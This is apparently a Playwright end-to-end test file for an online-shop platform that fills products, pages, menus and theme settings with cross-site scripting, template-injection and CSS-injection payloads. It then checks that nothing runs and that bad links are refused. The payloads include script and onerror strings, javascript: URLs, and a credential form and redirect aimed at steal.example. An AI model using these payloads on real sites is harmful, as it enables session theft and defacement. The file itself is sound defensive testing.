// A store whose owner writes what is meant to run, wherever something can be written: nothing of it does, and pages stay whole.
import type { Page } from 'playwright-core'
import { expect } from 'vitest'
import { PASSWORD } from '../../shared/testing/members.ts'
import type { TestStore } from '../../shared/testing/platform.ts'
import { done, sellerOf, usd } from '../../shared/testing/selling.ts'
import { settled, signIn } from './console.ts'
import { test as siteTest } from './site.ts'

/** What a template would make of its arithmetic, in any of the usual languages. */
const COMPUTED = '1337'
const SHORT = `"'><img src=x onerror=hacked=1>{{7*191}}`
const EVIL = `${SHORT}</style></title><script>hacked=1</script>`
const TEMPLATES = `{{ 7 | times: 191 }}{% assign x = 7 %}\${7*191}<%= 7*191 %>#{7*191}`
const EVIL_HTML = `<p onclick="hacked=1">Soft</p>${EVIL}${TEMPLATES}<iframe src="/" srcdoc="<script>parent.hacked=1</script>"></iframe>
  <svg onload="hacked=1"><a xlink:href="javascript:hacked=1"><text>Vector</text></a></svg>
  <a href="javascript:hacked=1">Click</a> <a href=" java&#10;script:hacked=1">Broken</a> <a href="data:text/html,<script>hacked=1</script>">Data</a>
  <style>body { display: none }</style><p style="position: fixed; inset: 0; background: url(https://steal.example/x)">Over</p>
  <form action="https://steal.example/"><input name="password"><button>Send</button></form>
  <meta http-equiv="refresh" content="0;url=https://steal.example/"><base href="https://steal.example/"><object data="/x"></object>`
const FAKE_CSS = ['red;}body{display:none', '#fff;}', 'expression(hacked=1)', 'url(javascript:hacked=1)']
const FAKE_LINKS = [
  'javascript:hacked=1',
  ' javascript:hacked=1',
  'java\nscript:hacked=1',
  '//steal.example',
  'data:text/html,x',
]

const en = (text: string) => ({ en: text })

const test = siteTest.extend('store', { scope: 'file' }, async ({ site }) => {
  const store = await site.platform.signUp()
  const sell = sellerOf(store)
  const words = { seo_title: EVIL, seo_description: EVIL }
  await done(store.admin('PATCH', '/admin/v1/store', { name: `Evil ${EVIL}` }))
  await sell.create('products', {
    ...{ title: `Shirt ${EVIL}`, handle: 'evil', description: EVIL_HTML, status: 'active', ...words },
    ...{ vendor: EVIL, product_type: EVIL, tags: [EVIL] },
    images: [{ url: 'https://images.example/x.png', alt: EVIL }],
    variants: [
      { sku: EVIL, options: { [`Size ${SHORT}`]: EVIL }, prices: [usd(1_000)], inventory_quantity: 5 },
    ],
  })
  const rule = { match: 'any', conditions: [{ field: 'tag', operator: 'equals', value: EVIL }] }
  await sell.create('collections', { title: EVIL, handle: 'evil', description: EVIL_HTML, rule, ...words })
  await sell.create('pages', { title: EVIL, handle: 'evil', body: EVIL_HTML, status: 'published', ...words })
  const item = { label: en(EVIL), target: { kind: 'url', url: `/search?q="><script>hacked=1</script>` } }
  await done(
    store.admin('PATCH', '/admin/v1/menus', { header: [{ ...item, children: [item] }], footer: [item] }),
  )
  await done(draft(store, settings))
  return store
})

const button = { label: en(SHORT), link: '/products/evil"onmouseover="hacked=1' }
const settings = {
  announcement: { text: en(EVIL), link: '/?x="onclick="hacked=1' },
  footer_text: en(EVIL + TEMPLATES),
  social_links: [{ network: 'mastodon', url: 'https://social.example/"onclick="hacked=1' }],
  home: [
    { kind: 'hero', heading: en(EVIL), text: en(EVIL + TEMPLATES), button },
    { kind: 'rich_text', heading: en(EVIL), html: en(EVIL_HTML) },
    { kind: 'image_with_text', heading: en(EVIL), text: en(EVIL_HTML), button },
    { kind: 'featured_products', heading: en(EVIL) },
  ],
}
const draft = async (store: TestStore, settings: object) => {
  const { version } = await done(store.admin('GET', '/admin/v1/theme'))
  return store.admin('PUT', '/admin/v1/theme/draft', { version, settings })
}

/** What a page does or has that no page should. */
async function harmOf(page: Page): Promise<string[]> {
  // What waits for a pointer has it.
  for (const link of await page.locator('main a, main p').all()) await link.dispatchEvent('mouseover')
  return (await page.evaluate(`(() => {
    const harm = []
    if (window.hacked !== undefined) harm.push('something ran')
    for (const one of document.querySelectorAll('*')) {
      for (const { name, value } of one.attributes) {
        if (name.startsWith('on')) harm.push(one.tagName + ' has ' + name)
        if (/^(href|src|action|xlink:href|formaction)$/.test(name) && /^\\s*(javascript|data:text)/i.test(value.replaceAll(/\\s/g, '')))
          harm.push(one.tagName + ' leads to ' + value)
      }
    }
    if (document.querySelector('main iframe, main object, main base, main meta, main style, main script:not([type$=json])') !== null)
      harm.push('there is an element that texts may not have')
    if (document.body.innerText.includes('${COMPUTED}')) harm.push('a template was computed')
    if (getComputedStyle(document.body).display === 'none') harm.push('a style got out')
    if (document.querySelector('[action*="steal"], [href*="steal"]') !== null) harm.push('it leads to a thief')
    return harm
  })()`)) as string[]
}

/** There is no picture at the end of these addresses. */
const tolerate = /images\.example/

test('the draft does no harm where it is looked at, nor the console where it is written', async ({
  site,
  store,
  visit,
}) => {
  // An editor reads texts in a document of its own, for which the policy refuses another base: nothing else may be reported.
  const page = await visit('/sign-in', { tolerate: /images\.example|Setting the document's base URI/ })
  await signIn(
    page,
    { email: `owner@${store.slug}.example`, password: PASSWORD },
    `/stores/${store.slug}/theme`,
  )
  await page.getByRole('heading', { level: 1, name: 'Look of the shop' }).waitFor()
  expect(await page.evaluate('window.hacked')).toBe(undefined)
  const opened = page.context().waitForEvent('page')
  await page.getByRole('button', { name: 'Look at the draft' }).click()
  const preview = await opened
  await preview.waitForURL(`${site.shopUrl(store.slug)}/**`)
  await preview.getByText('Soft', { exact: true }).waitFor()
  expect(await harmOf(preview)).toEqual([])
  await page.bringToFront()
  await page.getByRole('button', { name: 'Publish' }).click()
  await page.getByText('The shop looks like this now').waitFor()
  for (const path of ['products', 'collections', 'pages']) {
    await page.goto(`${site.url}/stores/${store.slug}/${path}`)
    await settled(page)
    await page.getByRole('main').getByRole('link', { name: SHORT }).first().click()
    await settled(page)
    expect(await page.evaluate('window.hacked')).toBe(undefined)
    expect(await page.getByRole('heading', { level: 1 }).isVisible()).toBe(true)
  }
})

test('no page of the shop does harm', async ({ site, store, visit }) => {
  await done(store.admin('POST', '/admin/v1/theme/publish', {}))
  const page = await visit('about:blank', { tolerate })
  const found: string[] = []
  const query = encodeURIComponent(EVIL)
  const paths = [
    '/',
    '/products/evil',
    '/collections',
    '/collections/evil',
    '/pages/evil',
    `/search?q=${query}`,
  ]
  for (const path of [
    ...paths,
    '/cart',
    `/account/sign-in?return_to=${encodeURIComponent('javascript:hacked=1')}`,
  ]) {
    const answer = await page.goto(`${site.shopUrl(store.slug)}${path}`)
    expect(answer?.status()).toBe(200)
    expect(await page.getByRole('heading', { level: 1 }).count()).toBe(1)
    found.push(...(await harmOf(page)).map((harm) => `${path}: ${harm}`))
    const policy = answer?.headers()['content-security-policy'] ?? ''
    expect(policy).toContain("default-src 'none'")
    expect(policy).not.toMatch(/script-src[^;]*('unsafe|\*)|style-src[^;]*'unsafe/)
  }
  expect(found).toEqual([])
  await page.goto(`${site.shopUrl(store.slug)}/products/evil`)
  await page.getByText('Soft').click()
  expect(await page.evaluate('window.hacked')).toBe(undefined)
})

test('what could break out of a rule or an address is refused', async ({ store }) => {
  const refused: number[] = []
  for (const colour of FAKE_CSS) {
    refused.push((await draft(store, { colours: { primary: colour } })).status)
    refused.push((await draft(store, { font: colour })).status)
  }
  for (const link of FAKE_LINKS) {
    refused.push((await draft(store, { announcement: { text: en('Sale'), link } })).status)
    refused.push((await draft(store, { social_links: [{ network: 'x', url: link }] })).status)
    const footer = [{ label: en('Sale'), target: { kind: 'url', url: link } }]
    refused.push((await store.admin('PATCH', '/admin/v1/menus', { footer })).status)
  }
  expect(new Set(refused)).toEqual(new Set([422]))
})
